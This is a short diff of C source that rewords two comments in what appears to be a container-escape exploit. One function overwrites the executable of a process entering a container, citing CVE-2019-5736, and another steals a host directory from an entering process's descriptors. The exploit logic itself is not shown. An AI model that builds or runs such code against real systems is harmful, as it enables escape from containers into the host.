@@ -50,7 +50,7 @@ static int every_process(double seconds, int (*look)(const char *pid, const char
 	return 0;
 }
 
-// Holds the program of whoever comes in, and writes over it as soon as it no longer runs (CVE-2019-5736).
+// Opens the executable of a process that enters, and overwrites it as soon as it no longer runs (CVE-2019-5736).
 static int overwrite_one(const char *pid, const char *argument)
 {
 	char path[64];
@@ -80,7 +80,7 @@ static int overwrite_one(const char *pid, const char *argument)
 	return 1;
 }
 
-// Takes a directory of the host out of the hands of whoever comes in: one in which there is the file NAME.
+// Steals a directory of the host from the descriptors of a process that enters: one that contains the file NAME.
 static int steal_one(const char *pid, const char *name)
 {
 	char path[512];
